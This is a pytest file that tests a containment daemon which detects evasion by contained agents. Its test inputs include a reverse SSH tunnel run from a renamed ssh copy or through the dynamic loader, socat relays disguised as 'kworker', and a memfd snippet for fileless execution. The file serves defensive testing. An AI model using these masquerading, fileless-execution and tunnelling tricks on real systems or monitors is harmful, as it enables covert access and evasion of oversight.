"""A red team's ways around names, live: programs copied, linked, run from memory or through the
dynamic loader are known by their file, and judged as the program they are."""

from __future__ import annotations

import glob
import shutil
import subprocess
import sys

import pytest

from helpers import OPEN_PORTS, SSH_OPTS, make_agent_cgroup, remove_cgroup_tree, wait_for

# run a copy of a program from a memfd: nothing of it on disk
FROM_MEMORY = """
import os, sys
fd = os.memfd_create("kworker")
with open(sys.argv[1], "rb") as f:
    os.write(fd, f.read())
os.execve(fd, ["kworker", *sys.argv[2:]], {})
"""


def loader() -> str:
    found = sorted(glob.glob("/lib64/ld-linux*.so*") + glob.glob("/lib/*-linux-gnu*/ld-linux*.so*"))
    assert found, "no dynamic loader found on this machine"
    return found[0]


@pytest.fixture
def agents(hierarchy, containment_daemon):
    made = []

    def make():
        made.append(make_agent_cgroup(hierarchy, containment_daemon.root))
        return made[-1]
    yield make
    for agent in made:
        if containment_daemon.containment.store.active_for(agent.name):
            containment_daemon.containment.release(agent.name, "test", "done")
        remove_cgroup_tree(agent.path)


def ports_open(netns_host, *ports: int) -> list[int]:
    probe = netns_host.popen([sys.executable, "-c", OPEN_PORTS, *map(str, ports)], stdout=subprocess.PIPE, text=True)
    return eval(probe.communicate(timeout=30)[0])


def test_ssh_under_another_name_or_through_the_loader_is_ssh_and_is_cut(containment_daemon, agents, sshd,
                                                                       netns_host, tmp_path):
    store = containment_daemon.containment.store
    renamed = tmp_path / "updater"
    shutil.copy("/usr/bin/ssh", renamed)
    base = [*SSH_OPTS, "-i", str(sshd)]
    # the benign twin: the renamed copy runs a command, no forward: runs to its end, nothing held
    twin = agents()
    out = twin.run([str(renamed), *base, f"root@{netns_host.address}", "echo", "hi"], text=True, timeout=30)
    assert out.stdout.strip() == "hi", out.stderr
    copy, through_loader = agents(), agents()
    tunnels = [copy.popen([str(renamed), *base, "-N", "-R", "2393:127.0.0.1:22", f"root@{netns_host.address}"]),
               through_loader.popen([loader(), "/usr/bin/ssh", *base, "-N", "-R", "2394:127.0.0.1:22",
                                     f"root@{netns_host.address}"])]
    try:
        for agent in (copy, through_loader):
            line = containment_daemon.wait_line("Reverse SSH tunnel opened", agent.name.split("/")[-1])
            assert store.active_for(agent.name).cut, line
        assert "cmdline=updater " in containment_daemon.wait_line("Reverse SSH tunnel opened",
                                                                  copy.name.split("/")[-1])
        # a session that came up in the milliseconds before the cut (exec -> cut races ssh's
        # connect) is dead once cut: the server drops it (ClientAlive, tests/servers/internet.py)
        # and its reverse port with it; an uncut one answers the server and keeps its port
        wait_for(lambda: ports_open(netns_host, 2393, 2394) == [], "the reverse ports closed at the outside host", 20)
    finally:
        for tunnel in tunnels:
            tunnel.kill()
            tunnel.wait()
    assert store.active_for(twin.name) is None


def test_a_relay_copied_or_run_from_memory_is_the_relay(containment_daemon, agents, tmp_path):
    renamed = tmp_path / "kworker"
    shutil.copy("/usr/bin/socat", renamed)
    copy, memory, twin = agents(), agents(), agents()
    # the twin: a program of socat's own name that is not socat (a script): nothing to say
    fake = tmp_path / "bin" / "socat"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    assert twin.run([str(fake), "-V"]).returncode == 0
    relays = [copy.popen([str(renamed), "TCP-LISTEN:24101,bind=127.0.0.1,fork", "TCP:127.0.0.1:9"]),
              memory.popen([sys.executable, "-c", FROM_MEMORY, "/usr/bin/socat", "TCP-LISTEN:24102,bind=127.0.0.1",
                            "TCP:127.0.0.1:9"])]
    try:
        line = containment_daemon.wait_line("socat relay started", copy.name.split("/")[-1])
        assert f"cmdline=kworker TCP-LISTEN:24101" in line
        containment_daemon.wait_line("socat relay started", memory.name.split("/")[-1])
        line = containment_daemon.wait_line("Program run from memory", memory.name.split("/")[-1])
        assert "exe=/memfd:kworker" in line and "exe_is=socat" in line
        assert not [x for x in containment_daemon.lines if twin.name.split("/")[-1] in x and "relay started" in x]
    finally:
        for relay in relays:
            relay.kill()
            relay.wait()
